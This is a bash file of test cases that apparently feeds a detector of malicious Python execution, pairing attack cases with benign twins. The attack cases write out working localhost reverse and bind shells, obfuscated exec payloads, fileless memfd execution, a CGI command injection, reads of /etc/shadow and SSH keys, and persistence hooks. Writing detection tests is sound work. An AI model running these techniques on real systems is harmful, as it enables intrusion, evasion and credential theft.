# shellcheck shell=bash
# The cases of Strategies/python-execution; sourced by scripts/record-telemetry, which says what
# record, $before and the options of a case mean.

# ---------------------------------------------------------------- Python: attacks

record python-execution inline-os-system <<'EOF'
python3 -c "import os; os.system('echo Test > /tmp/test.txt')"
EOF

record python-execution inline-os-system-enriched enriched <<'EOF'
python3 -c "import os; os.system('echo Test > /tmp/test.txt')"
EOF

record python-execution script-runs-shell <<'EOF'
cat > script.py <<'END'
import os
os.system("echo Script Execution > /tmp/script_test.txt")
END
python3 script.py
EOF

record python-execution python-runs-python <<'EOF'
python3 -c "import subprocess, sys; subprocess.run([sys.executable, '-c', 'import os; os.system(\"echo Executable Test > /tmp/executable_test.txt\")'])"
EOF

record python-execution compiled-bytecode <<'EOF'
echo 'import subprocess; subprocess.call("id > /tmp/id.txt; uname -a >> /tmp/id.txt", shell=True)' > update.py
python3 -m py_compile update.py
mv __pycache__/update.cpython-*.pyc update.pyc
rm update.py
python3 update.pyc
EOF

record python-execution inline-pty-spawn <<'EOF'
python3 -c 'import os,pty; pty.spawn(["/bin/sh", "-c", "id; tty"])'
EOF

record python-execution script-pty-spawn tty 'stdin=id\nexit\n' <<'EOF'
cat > pty_example.py <<'END'
import pty

def spawn_shell():
    pty.spawn("/bin/bash")

spawn_shell()
END
python3 pty_example.py
EOF

pty_fork() {
  cat <<'EOF'
cat > pty_example.py <<'END'
import os
import pty
import subprocess

def spawn_shell():
    child_pid, fd = pty.fork()
    if child_pid == 0:
        subprocess.call(["/bin/bash", "-c", "id"])
        os._exit(0)
    try:
        while os.read(fd, 1024):
            pass
    except OSError:
        pass
    os.waitpid(child_pid, 0)

spawn_shell()
END
python3 pty_example.py
EOF
}
record python-execution script-pty-fork tty forks < <(pty_fork)
record python-execution script-pty-fork-without-fork-records tty < <(pty_fork)

record python-execution code-from-pipe <<'EOF'
echo 'import os; os.system("id")' > stage2
cat stage2 | python3 -
EOF

record python-execution code-from-here-document <<'EOF'
python3 <<'END'
import subprocess
subprocess.call("id; hostname -s >/dev/null", shell=True)
END
EOF

record python-execution encoded-inline-code <<'EOF'
python3 -c 'import base64;exec(base64.b64decode("aW1wb3J0IG9zOyBvcy5zeXN0ZW0oImlkID4gL3RtcC9pZC50eHQiKQ=="))'
EOF

record python-execution layered-inline-code <<'EOF'
python3 -c "exec(__import__('zlib').decompress(__import__('base64').b64decode('eJzLzC3ILypRyC/myi/WK64sLknN1VDPTFGwU9AvyS3Qz0zRK6koUdfkAgAk+Q1b')))"
EOF

record python-execution script-in-shared-memory <<'EOF'
cat > /dev/shm/.x.py <<'END'
import socket
print(socket.gethostbyname("localhost"))
END
python3 /dev/shm/.x.py
cd /tmp
echo 'print(open("/etc/passwd").readline())' > payload.py
python3 payload.py
EOF

record python-execution copied-interpreter <<'EOF'
mkdir -p .cache/dbus
cp /usr/bin/python3.11 .cache/dbus/dbus-helper
.cache/dbus/dbus-helper -c 'import os; print(os.getuid())'
EOF

record python-execution disguised-argv0 <<'EOF'
exec -a '[kworker/0:1]' python3 -c 'import os; print(os.getuid())'
EOF

listener='import socket
s = socket.socket(); s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
s.bind(("127.0.0.1", 4444)); s.listen(1)
c, a = s.accept(); c.sendall(b"id\nexit\n"); c.settimeout(5)
while c.recv(1024): pass'
listen_before="python3 -c '$listener' & sleep 1"

before=$listen_before
record python-execution inline-reverse-shell <<'EOF'
python3 -c 'import socket,subprocess,os;s=socket.socket(socket.AF_INET,socket.SOCK_STREAM);s.connect(("127.0.0.1",4444));os.dup2(s.fileno(),0); os.dup2(s.fileno(),1);os.dup2(s.fileno(),2);p=subprocess.call(["/bin/sh","-i"]);'
EOF

before=$listen_before
record python-execution script-reverse-shell <<'EOF'
cat > sync.py <<'END'
import socket, os, pty
s = socket.create_connection(("127.0.0.1", 4444))
for fd in (0, 1, 2):
    os.dup2(s.fileno(), fd)
pty.spawn("/bin/bash")
END
python3 sync.py
EOF

before=$listen_before
record python-execution script-becomes-reverse-shell <<'EOF'
cat > sync.py <<'END'
import socket, os
s = socket.create_connection(("127.0.0.1", 4444))
for fd in (0, 1, 2):
    os.dup2(s.fileno(), fd)
os.execl("/bin/sh", "sh")
END
python3 sync.py
EOF

record python-execution file-server-module <<'EOF'
python3 -m http.server --bind 127.0.0.1 8123 &
sleep 1
curl -s http://127.0.0.1:8123/ -o /dev/null
kill %1
EOF

record python-execution startup-hook-written <<'EOF'
site=$(python3 -m site --user-site)
mkdir -p "$site"
echo 'import os; os.environ.setdefault("LAB", "1")' > "$site/usercustomize.py"
echo 'import os; os.environ.setdefault("LAB", "2")' > "$site/telemetry.pth"
python3 -c 'import os; print(os.environ["LAB"])'
EOF

record python-execution wrapped-inline-code <<'EOF'
timeout 5 python3 -c 'import os; os.system("id")'
nohup python3 -c 'import os; os.popen("id").read()'
env PATH=/usr/local/bin:/usr/bin python3 -c '__import__("os").system("id")'
nice -n 5 /usr/bin/python3.11 -Ic 'from subprocess import run; run("id", shell=True)'
EOF

record python-execution sudo-inline-code enriched <<'EOF'
sudo python3 -c 'import os; os.setuid(0); os.system("id")'
EOF

before='install -d -o www-data /srv/app/www/cgi-bin'
record python-execution web-server-account enriched user=www-data <<'EOF'
cat > www/cgi-bin/ping <<'END'
#!/bin/sh
echo "Content-Type: text/plain"
echo
eval "echo checking $QUERY_STRING"
END
chmod +x www/cgi-bin/ping
busybox httpd -f -p 127.0.0.1:8124 -h www &
sleep 1
curl -s 'http://127.0.0.1:8124/cgi-bin/ping?x;echo${IFS}aW1wb3J0IG9zCnByaW50KG9zLmdldHVpZCgpKQo=|base64${IFS}-d|python3${IFS}-'
kill %1
EOF

record python-execution hidden-name-in-inline-code <<'EOF'
python3 -c "o = __import__('so'[::-1]); getattr(o, 'sys' + 'tem')('id')"
EOF

record python-execution inline-code-in-container containers <<'EOF'
docker run --rm --network none lab/python:3.11 python3 -c 'import os; os.system("id; cat /proc/version")'
EOF

# ---------------------------------------------------------------- Python: known misses

record python-execution renamed-interpreter-runs-script <<'EOF'
mkdir -p .cache/dbus
cp /usr/bin/python3.11 .cache/dbus/dbus-helper
echo 'print(open("/etc/passwd").readline())' > .cache/dbus/session.conf
.cache/dbus/dbus-helper .cache/dbus/session.conf
EOF

record python-execution script-without-children <<'EOF'
cat > collect.py <<'END'
import glob, zipfile
with zipfile.ZipFile("backup.zip", "w") as z:
    for name in glob.glob("/etc/ssh/*.pub") + ["/etc/passwd"]:
        z.write(name)
END
python3 collect.py
EOF

record python-execution startup-hook-under-known-name <<'EOF'
site=$(python3 -m site --user-site)
mkdir -p "$site"
echo 'import os; os.environ.setdefault("LAB", "3")' > "$site/distutils-precedence.pth"
EOF

# ---------------------------------------------------------------- Python: benign twins

record python-execution application-script user=deploy <<'EOF'
cat > /srv/app/report.py <<'END'
import csv, sys
rows = list(csv.reader(open("/srv/app/data.csv")))
print(len(rows), file=sys.stderr)
END
printf 'a,b\n1,2\n' > /srv/app/data.csv
cd /srv/app
python3 /srv/app/report.py
python3 report.py
EOF

record python-execution application-script-runs-shell user=deploy <<'EOF'
cat > /srv/app/rotate.py <<'END'
import os
os.system("ls -l /srv/app > /srv/app/listing")
END
python3 /srv/app/rotate.py
EOF

site=/srv/app/venv/lib/python3.11/site-packages
before="mkdir -p $site; chown -R deploy /srv/app/venv"
record python-execution virtual-environment user=deploy "watch=$site/distutils-precedence.pth" <<'EOF'
python3 -m venv /srv/app/venv
/srv/app/venv/bin/python --version
/srv/app/venv/bin/pip --version
EOF

record python-execution version-queries user=deploy <<'EOF'
python3 --version
python3 -V
python3 -m pip --version
python3 -c 'import sys; print(sys.version)'
EOF

record python-execution json-on-standard-input user=deploy <<'EOF'
echo '{"b": 1, "a": [2, 3]}' > data.json
python3 -m json.tool < data.json
cat data.json | python3 -c 'import json,sys; print(json.load(sys.stdin)["b"])'
EOF

record python-execution unit-tests user=deploy <<'EOF'
mkdir -p /srv/app/tests
cat > /srv/app/tests/test_sum.py <<'END'
import unittest

class Sum(unittest.TestCase):
    def test_sum(self):
        self.assertEqual(sum([1, 2]), 3)
END
cd /srv/app
python3 -m unittest discover -s tests
EOF

record python-execution script-runs-tools user=deploy <<'EOF'
cat > /srv/app/revision.py <<'END'
import subprocess
print(subprocess.run(["git", "--version"], capture_output=True, text=True).stdout)
print(subprocess.check_output(["ls", "/srv/app"], text=True))
END
python3 /srv/app/revision.py
EOF

record python-execution decode-only-one-liner user=deploy <<'EOF'
python3 -c 'import base64,sys; print(base64.b64decode(sys.argv[1]).decode())' aGVsbG8=
python3 -c 'import socket; print(socket.getfqdn("localhost"))'
EOF

record python-execution interactive-interpreter user=deploy tty 'stdin=2 + 2\nexit()\n' <<'EOF'
python3 -q
EOF

record python-execution service-client user=deploy <<'EOF'
mkdir -p /srv/app/public && echo ok > /srv/app/public/health
cd /srv/app/public
busybox httpd -f -p 127.0.0.1:8125 -h /srv/app/public &
sleep 1
cat > /srv/app/probe.py <<'END'
import subprocess, urllib.request
print(urllib.request.urlopen("http://127.0.0.1:8125/health").read())
subprocess.run(["/bin/sh", "-c", "date > /srv/app/last-probe"])
END
python3 /srv/app/probe.py
kill %1
EOF

# ---------------------------------------------------------------- Python: code that lies in no file

terse=yes

record python-execution code-from-process-substitution <<'EOF'
python3 <(echo 'import os; os.system("id")')
exec 9<<<'print(__import__("os").getuid())'
python3 /proc/self/fd/9
EOF

record python-execution code-from-here-string <<'EOF'
python3 /dev/stdin <<<'import os; os.system("id")'
EOF

record python-execution code-from-fifo <<'EOF'
mkfifo /tmp/queue
echo 'print(open("/etc/passwd").readline())' > /tmp/queue &
python3 /tmp/queue
EOF

record python-execution code-in-memory-file <<'EOF'
cat > launch.py <<'END'
import os, subprocess, sys
fd = os.memfd_create("cache")
os.write(fd, b"import os\nprint(os.getuid())\n")
subprocess.run([sys.executable, f"/proc/self/fd/{fd}"], pass_fds=[fd])
END
python3 launch.py
EOF

record python-execution program-in-memory-file <<'EOF'
cat > launch.py <<'END'
import os, subprocess
fd = os.memfd_create("kworker/u8:3")
os.write(fd, open("/usr/bin/id", "rb").read())
subprocess.run([f"/proc/self/fd/{fd}"], pass_fds=[fd])
END
python3 launch.py
EOF

record python-execution interpreter-in-memory-file <<'EOF'
cat > launch.py <<'END'
import os
fd = os.memfd_create("cache")
os.write(fd, open("/usr/bin/python3.11", "rb").read())
os.execve(fd, ["sshd", "-c", "import os; print(os.getuid())"], {"PYTHONHOME": "/usr"})
END
python3 launch.py
EOF

record python-execution kernel-calls-from-inline-code <<'EOF'
python3 -c 'import ctypes; print(ctypes.CDLL(None).unshare(0x10000000))'
python3 -c 'from ctypes import *; libc = CDLL("libc.so.6"); print(libc.ptrace(16, 1, 0, 0))'
python3 -c 'import ctypes,os; fd=ctypes.CDLL(None).syscall(319,b"x",0); os.write(fd,open("/usr/bin/id","rb").read()); os.execv("/proc/self/fd/%d"%fd,["id"])'
EOF

record python-execution encoding-variants <<'EOF'
python3 -c 'exec(bytes.fromhex("7072696e74285f5f696d706f72745f5f28226f7322292e676574756964282929"))'
python3 -c 'import base64 as b; eval(compile(b.b85decode("aB^vGbSN?@"),"<s>","exec"))'
python3 -c 'import codecs; exec(codecs.decode("cevag(__vzcbeg__(\"bf\").trghvq())","rot13"))'
python3 -c 'exec("".join(map(chr,[112,114,105,110,116,40,49,41])))'
python3 -c 'import marshal,types; types.FunctionType(marshal.loads(marshal.dumps(compile("print(2)","s","exec"))),{})()'
EOF

record python-execution code-loaded-at-run-time <<'EOF'
mkdir www && echo 'print(3)' > www/stage
cd www
busybox httpd -f -p 127.0.0.1:8126 -h . &
sleep 1
python3 -c 'import urllib.request as u;exec(u.urlopen("http://127.0.0.1:8126/stage").read())'
kill %1
export STAGE='print(4)'
python3 -c 'import os;exec(os.environ["STAGE"])'
EOF

# ---------------------------------------------------------------- Python: what runs is not what it seems

record python-execution packed-program <<'EOF'
mkdir app
echo 'import os; os.system("id")' > app/__main__.py
python3 -m zipapp app -o tool.pyz
python3 tool.pyz
EOF

record python-execution module-runs-given-code <<'EOF'
python3 -m timeit -n 1 -r 1 'import os; os.system("id")'
python3 -c 'open("state.pkl","wb").write(b"cposix\nsystem\n(S\x27id\x27\ntR.")'
python3 -m pickle state.pkl
echo 'print(5)' > /tmp/step.py
python3 -m cProfile /tmp/step.py
EOF

record python-execution module-in-shared-memory <<'EOF'
cd /dev/shm
echo 'print(open("/etc/passwd").readline())' > helper.py
python3 -m helper
EOF

record python-execution script-in-hidden-directory <<'EOF'
mkdir -p .config/.update
echo 'print(open("/etc/passwd").readline())' > .config/.update/sync.py
python3 .config/.update/sync.py
EOF

record python-execution symlinked-interpreter <<'EOF'
ln -s /usr/bin/python3 gpg-agent
./gpg-agent -c 'import os; print(os.getuid())'
EOF

record python-execution renamed-interpreter-runs-module <<'EOF'
mkdir -p .cache/dbus
cp /usr/bin/python3.11 .cache/dbus/dbus-helper
.cache/dbus/dbus-helper -m http.server --bind 127.0.0.1 8127 &
sleep 1
kill %1
EOF

record python-execution interpreter-through-loader <<'EOF'
/lib64/ld-linux-x86-64.so.2 /usr/bin/python3.11 -c 'import os; os.system("id")'
EOF

record python-execution further-wrappers <<'EOF'
printf 'import os; os.system("id")' | xargs -0 python3 -c
find . -maxdepth 0 -exec python3 -c 'import os; os.system("id")' \;
bash -c 'python3 -c "import os; os.system(\"id\")"; true'
setsid -w stdbuf -o0 python3 -B -u -c 'import os; os.system("id")'
script -qc "python3 -c 'import os; os.system(\"id\")'" /dev/null
EOF

# ---------------------------------------------------------------- Python: terminals, shells, sockets

record python-execution pty-spellings <<'EOF'
python3 -c 'import pty as p; p.spawn(["/bin/sh","-c","tty"])'
python3 -c 'from pty import*; spawn(["/bin/sh","-c","tty"])'
python3 -c '__import__("pty").spawn(["/bin/sh","-c","tty"])'
python3 -c 'import os; p,f=os.forkpty(); p or os.execl("/bin/sh","sh","-c","tty"); os.waitpid(p,0)'
echo 'import pty; pty.spawn(["/bin/sh","-c","tty"])' | python3 -
EOF

record python-execution pty-by-hand forks <<'EOF'
cat > term.py <<'END'
import fcntl, os, subprocess, termios
main, worker = os.openpty()
def take():
    os.setsid()
    fcntl.ioctl(worker, termios.TIOCSCTTY, 0)
subprocess.run(["/bin/sh", "-c", "tty"], stdin=worker, stdout=worker, preexec_fn=take)
END
python3 term.py
EOF

connect_soon() {
  echo "python3 -c 'import socket,time
for i in range(100):
    time.sleep(0.2)
    try: s = socket.create_connection((\"127.0.0.1\", $1)); break
    except OSError: pass
s.sendall(b\"id\\nexit\\n\"); s.settimeout(5)
while s.recv(1024): pass' &"
}

before=$(connect_soon 4445)
record python-execution script-bind-shell accepts <<'EOF'
cat > sync.py <<'END'
import os, socket
s = socket.create_server(("127.0.0.1", 4445))
c, a = s.accept()
for fd in (0, 1, 2):
    os.dup2(c.fileno(), fd)
os.execl("/bin/sh", "sh", "-i")
END
python3 sync.py
EOF

before=$(connect_soon 4448)
record python-execution script-bind-shell-for-each-caller accepts <<'EOF'
cat > sync.py <<'END'
import socket, subprocess
s = socket.create_server(("127.0.0.1", 4448))
c, a = s.accept()
subprocess.call(["/bin/bash", "-i"], stdin=c, stdout=c, stderr=c)
END
python3 sync.py
EOF

before=$(connect_soon 4446)
record python-execution inline-bind-shell <<'EOF'
python3 -c 'import socket as s,subprocess as sp;l=s.socket();l.setsockopt(s.SOL_SOCKET,s.SO_REUSEADDR,1);l.bind(("127.0.0.1",4446));l.listen(1);c,a=l.accept();sp.call(["/bin/sh"],stdin=c,stdout=c,stderr=c)'
EOF

before=${listen_before//127.0.0.1/::1}
before=${before//socket.socket()/socket.socket(socket.AF_INET6)}
record python-execution reverse-shell-over-ipv6 <<'EOF'
cat > sync.py <<'END'
import socket, subprocess
s = socket.create_connection(("::1", 4444))
subprocess.call(["/bin/bash", "-i"], stdin=s, stdout=s, stderr=s)
END
python3 sync.py
EOF

record python-execution tools-from-inline-code <<'EOF'
python3 -c 'import subprocess as s; s.run(["curl","-s","-m","2","http://127.0.0.1:9/"]); s.run(["chmod","+x","session.sh"])'
echo 'import os; os.posix_spawn("/usr/bin/nc" if os.path.exists("/usr/bin/nc") else "/usr/bin/wget", ["wget","-V"], {})' | python3
EOF

# ---------------------------------------------------------------- Python: frameworks

# Small look-alikes with the names and the ways of the packages.
look_alikes() {
  cat <<'EOF'
mkdir -p lib
cat > lib/paramiko.py <<'END'
import socket, subprocess
class AutoAddPolicy: pass
class SSHClient:
    def set_missing_host_key_policy(self, policy): pass
    def connect(self, host, port=22, **login): self.peer = (host, port)
    def exec_command(self, line): return subprocess.run(["/usr/bin/id"])
END
cat > lib/pexpect.py <<'END'
import os, pty
def spawn(program, args=[]):
    pid, fd = pty.fork()
    if pid == 0: os.execvp(program, [program] + args)
    try:
        while os.read(fd, 1024): pass
    except OSError: pass
    os.waitpid(pid, 0)
END
cat > lib/pwn.py <<'END'
import subprocess
def process(argv): return subprocess.Popen(argv, stdin=subprocess.PIPE)
END
cat > lib/fabric.py <<'END'
import subprocess
class Connection:
    def __init__(self, host): self.host = host
    def local(self, line): return subprocess.run(line, shell=True)
END
export PYTHONPATH=$PWD/lib PYTHONDONTWRITEBYTECODE=1
EOF
}

record python-execution remote-control-inline < <(look_alikes; cat <<'EOF'
python3 -c 'import paramiko; c=paramiko.SSHClient(); c.set_missing_host_key_policy(paramiko.AutoAddPolicy()); c.connect("127.0.0.1"); c.exec_command("id")'
python3 -c 'from pwn import *; p=process(["/bin/sh"]); p.communicate(b"id")'
EOF
)

record python-execution frameworks-in-scripts forks < <(look_alikes; cat <<'EOF'
cat > drive.py <<'END'
import pexpect
pexpect.spawn("/bin/bash", ["-c", "tty"])
END
cat > fabfile.py <<'END'
from fabric import Connection
Connection("127.0.0.1").local("id; hostname -s")
END
python3 drive.py
python3 fabfile.py
EOF
)

record python-execution tools-known-by-name <<'EOF'
for name in secretsdump.py linpeas.py; do
  echo 'import sys; sys.exit(0)' > $name
  python3 $name --help
done
EOF

record python-execution secrets-read-inline <<'EOF'
python3 -c 'print(open("/etc/shadow").read())' || true
python3 -c 'import pathlib; [print(p) for p in pathlib.Path.home().glob(".ssh/id_*")]'
EOF

record python-execution inline-code-takes-root <<'EOF'
sudo python3 -c 'import os; os.setresuid(0,0,0); print(os.getresuid())'
EOF

record python-execution code-in-other-programs needs=gdb <<'EOF'
gdb -nx -batch -ex 'python import os; os.system("id")'
echo 'import time; time.sleep(20)' > wait.py
python3 wait.py &
sleep 1
gdb -nx -batch -p $! -ex 'call (int)PyRun_SimpleString("import os; os.getuid()")' || true
kill %1
EOF

# ---------------------------------------------------------------- Python: staying, and being started by others

record python-execution start-up-variables <<'EOF'
echo 'print("hook")' > /dev/shm/antigravity.py
env PYTHONSTARTUP=/dev/shm/antigravity.py python3 -i </dev/null
env PYTHONPATH=/dev/shm python3 -c 'import antigravity'
sudo PYTHONPATH=/dev/shm python3 -c 'import antigravity'
EOF

crontab_before='mkdir -p /var/spool/cron/crontabs'
cron_inline='echo "* * * * * /usr/bin/python3 -c \"import os; os.getuid()\"" | crontab -
sudo timeout 65 cron -f || true
crontab -r'

before=$crontab_before
record python-execution cron-runs-inline-code forks sessions needs=cron <<<"$cron_inline"

before=$crontab_before
record python-execution cron-runs-inline-code-without-fork-records sessions needs=cron <<<"$cron_inline"

web_server() {
  cat <<'EOF'
cat > www/lighttpd.conf <<END
server.document-root = "/srv/app/www"
server.port = 8128
server.bind = "127.0.0.1"
server.modules = ("mod_cgi")
cgi.assign = (".cgi" => "")
END
/usr/sbin/lighttpd -D -f www/lighttpd.conf &
sleep 1
curl -s http://127.0.0.1:8128/run.cgi
kill %1
EOF
}

before='install -d -o www-data /srv/app/www /srv/app/www/uploads'
record python-execution web-server-runs-upload user=www-data needs=lighttpd < <(cat <<'EOF'
echo 'print(open("/etc/passwd").readline())' > www/uploads/avatar.py
printf '#!/bin/sh\nprintf "Content-Type: text/plain\\n\\n"\npython3 /srv/app/www/uploads/avatar.py\npython3 -c "import os; print(os.getuid())"\n' > www/run.cgi
chmod +x www/run.cgi
EOF
web_server
)

package() {
  cat <<EOF
mkdir -p pkg
cat > pkg/setup.py <<'END'
import os
from setuptools import setup
$1
setup(name="labtool", version="1.0", py_modules=[])
END
venv/bin/pip --disable-pip-version-check install -q --no-index --no-build-isolation ./pkg
EOF
}
venv_before='python3 -m venv --system-site-packages ~mallory/venv; ~mallory/venv/bin/pip install -q --no-index wheel 2>/dev/null || true; chown -R mallory ~mallory/venv'

before=${venv_before//python3 -m/\/usr\/bin\/python3 -m}
record python-execution package-hook-starts-shell < <(package 'os.system("id > /tmp/.id; cat /etc/passwd >> /tmp/.id")')

# ---------------------------------------------------------------- Python: further known misses

record python-execution start-up-variable-in-shell <<'EOF'
echo 'print("hook")' > startup.py
export PYTHONSTARTUP=$PWD/startup.py
script -qc python3 /dev/null <<<'exit()'
EOF

record python-execution command-loop-without-shell <<'EOF'
cat > agent.py <<'END'
import shlex, socket, subprocess
a, b = socket.socketpair()
for line in (b"/usr/bin/id", b"/usr/bin/uname -r"):
    a.sendall(line)
    argv = shlex.split(b.recv(1024).decode())
    b.sendall(subprocess.run(argv, capture_output=True).stdout)
    a.recv(1024)
END
python3 agent.py
EOF

record python-execution code-from-fifo-at-home <<'EOF'
mkfifo queue
echo 'print(open("/etc/passwd").readline())' > queue &
python3 queue
EOF

record python-execution folder-as-program <<'EOF'
mkdir collect
echo 'print(open("/etc/passwd").readline())' > collect/__main__.py
python3 collect
EOF

embedding_program='int Py_InitializeEx(int); int PyRun_SimpleString(const char *);
int main(void) { Py_InitializeEx(0); return PyRun_SimpleString("import os; os.system(\"id\")"); }'
before="gcc -o /home/mallory/backup-agent -x c - -x none /usr/lib/x86_64-linux-gnu/libpython3.11.so.1.0 <<<'$embedding_program'"
record python-execution embedded-interpreter needs=gcc <<'EOF'
./backup-agent
EOF

before='install -o mallory /dev/null /srv/app/rotate.py'
record python-execution installed-script-changed <<'EOF'
echo 'import os; os.system("id > /tmp/.id")' > /srv/app/rotate.py
python3 /srv/app/rotate.py
EOF

record python-execution shell-under-another-name <<'EOF'
cp /bin/dash .cache-helper
cat > sync.py <<'END'
import subprocess
subprocess.run(["./.cache-helper", "-c", "id"])
END
python3 sync.py
EOF

record python-execution program-started-through-computed-name <<'EOF'
python3 -c 'import os,sys; f=[getattr(os,n) for n in dir(os) if hash(len(n))==11 and n.startswith("posix_sp")][0]; f("/usr/bin/id",["id"],{})'
EOF

record python-execution cipher-with-key-inline <<'EOF'
python3 -c 'import sys; exec(bytes(c^len(sys.executable) for c in b"b`{|f:!;"))' || true
EOF

before='mkdir -p /srv/app/bin; chown -R mallory /srv/app/bin; '$listen_before
record python-execution shell-long-after-connection <<'EOF'
cat > /srv/app/bin/sync.py <<'END'
import socket, subprocess, time
s = socket.create_connection(("127.0.0.1", 4444))
time.sleep(63)
subprocess.call(["/bin/sh", "-i"], stdin=s, stdout=s, stderr=s)
END
python3 /srv/app/bin/sync.py
EOF

before=$(connect_soon 4447)
record python-execution script-bind-shell-without-accept-records <<'EOF'
cat > sync.py <<'END'
import os, socket
s = socket.create_server(("127.0.0.1", 4447))
c, a = s.accept()
for fd in (0, 1, 2):
    os.dup2(c.fileno(), fd)
os.execl("/bin/sh", "sh", "-i")
END
python3 sync.py
EOF

before='docker tag lab/python:3.11 shop/redis:7.2'
record python-execution python-in-foreign-image-unnamed containers <<'EOF'
docker run --rm --network none shop/redis:7.2 python3 -c 'print(open("/proc/version").read())'
EOF

# ---------------------------------------------------------------- Python: further benign twins

before=${venv_before//python3 -m/\/usr\/bin\/python3 -m}
before=${before//mallory/deploy}
record python-execution package-install user=deploy < <(package 'print(os.name)')

record python-execution cron-runs-installed-script user=mallory forks sessions needs=cron <<'EOF'
echo '* * * * * /usr/bin/python3 /usr/share/python3/py3versions.py -d' | crontab -
sudo timeout 65 cron -f || true
crontab -r
EOF

before='install -d -o www-data /srv/app/www'
record python-execution web-server-runs-application user=www-data needs=lighttpd < <(cat <<'EOF'
printf '#!/bin/sh\nprintf "Content-Type: text/plain\\n\\n"\nexec python3 /usr/share/python3/py3versions.py -d\n' > www/run.cgi
chmod +x www/run.cgi
EOF
web_server
)

record python-execution data-by-process-substitution user=deploy <<'EOF'
python3 -m json.tool <(echo '{"a": 1}')
python3 /usr/share/python3/py3versions.py -d < <(echo data)
EOF

record python-execution configuration-management user=deploy <<'EOF'
dir=.ansible/tmp/ansible-tmp-1763750000.1-4242-99
mkdir -p $dir
cat > $dir/AnsiballZ_setup.py <<'END'
import platform, subprocess, zipfile
subprocess.run(["/usr/bin/uname", "-r"])
END
/bin/sh -c "/usr/bin/python3 $HOME/$dir/AnsiballZ_setup.py && sleep 0"
EOF

record python-execution system-maintenance-scripts user=deploy <<'EOF'
py3versions -d
lsb_release -ds || true
python3 -Es /usr/share/python3/py3versions.py -i
sudo -n true 2>/dev/null || true
EOF

record python-execution editor-and-notebook-servers user=deploy <<'EOF'
mkdir -p .vscode-server/extensions/ms-python.python/python_files .local/share/jupyter/runtime lib
echo 'import json, os; print(json.dumps(dict(os.environ))[:10])' > .vscode-server/extensions/ms-python.python/python_files/printEnvVariables.py
python3 -I $HOME/.vscode-server/extensions/ms-python.python/python_files/printEnvVariables.py
echo 'import sys; print(sys.argv[1:])' > lib/ipykernel_launcher.py
cd lib
python3 -m ipykernel_launcher -f $HOME/.local/share/jupyter/runtime/kernel-1.json
EOF

record python-execution deployed-tool-with-hook user=deploy <<'EOF'
mkdir -p /srv/app/bin
cat > /srv/app/bin/certtool <<'END'
#!/usr/bin/python3
import subprocess
subprocess.run("true # reload the web server", shell=True)
END
chmod +x /srv/app/bin/certtool
/srv/app/bin/certtool renew
EOF

record python-execution debugger-scripts user=deploy needs=gdb <<'EOF'
gdb -nx -batch -ex 'python print(gdb.VERSION)'
EOF

record python-execution measuring-and-profiling user=deploy <<'EOF'
python3 -m timeit -n 1 -r 1 '"-".join(str(n) for n in range(9))'
echo 'print(sum(range(9)))' > /srv/app/sum.py
python3 -m cProfile /srv/app/sum.py
python3 -m compileall -q /srv/app/sum.py
EOF

record python-execution packed-tool-installed user=deploy <<'EOF'
mkdir -p /srv/app/tool && echo 'print("ok")' > /srv/app/tool/__main__.py
python3 -m zipapp /srv/app/tool -o /srv/app/tool.pyz
python3 /srv/app/tool.pyz
EOF

record python-execution harmless-ctypes user=deploy <<'EOF'
python3 -c 'import ctypes; print(ctypes.sizeof(ctypes.c_long))'
python3 -c 'import ctypes.util; print(ctypes.util.find_library("c") is not None)' 
cat > /srv/app/buffer.py <<'END'
import os
fd = os.memfd_create("buffer")
os.write(fd, b"x")
END
python3 /srv/app/buffer.py
EOF

record python-execution health-check-one-liner user=deploy <<'EOF'
mkdir -p /srv/app/public && echo ok > /srv/app/public/health
busybox httpd -f -p 127.0.0.1:8129 -h /srv/app/public &
sleep 1
python3 -c 'import urllib.request as u; print(u.urlopen("http://127.0.0.1:8129/health").status)'
python3 -c 'print(open("/etc/os-release").readline())'
kill %1
EOF

record python-execution deployment-scripts user=deploy < <(look_alikes; cat <<'EOF'
cat > /srv/app/rollout.py <<'END'
import paramiko, pexpect
c = paramiko.SSHClient()
c.connect("127.0.0.1")
c.exec_command("true")
pexpect.spawn("/usr/bin/id")
END
python3 /srv/app/rollout.py
EOF
)

record python-execution named-environments user=deploy <<'EOF'
mkdir -p .pyenv/versions/3.11.9/bin .venv/bin
ln -s /usr/bin/python3 .pyenv/versions/3.11.9/bin/python3.11
ln -s /usr/bin/python3 .venv/bin/python
.pyenv/versions/3.11.9/bin/python3.11 -c 'print(1)'
.venv/bin/python -c 'print(2)'
env PYTHONUNBUFFERED=1 PYTHONDONTWRITEBYTECODE=1 .venv/bin/python -c 'print(3)'
EOF

record python-execution privileges-dropped user=mallory <<'EOF'
sudo python3 -c 'import os; os.setresuid(33,33,33); print(os.getuid())'
EOF

record python-execution server-runs-dated-command user=deploy accepts <<'EOF'
cat > /srv/app/server.py <<'END'
import socket, subprocess
s = socket.create_server(("127.0.0.1", 8130))
c, a = s.accept()
c.sendall(subprocess.run(["/bin/sh", "-c", "date"], capture_output=True).stdout)
END
python3 /srv/app/server.py &
sleep 1
curl -s --http0.9 http://127.0.0.1:8130/ -o /dev/null || true
wait
EOF

terse=no
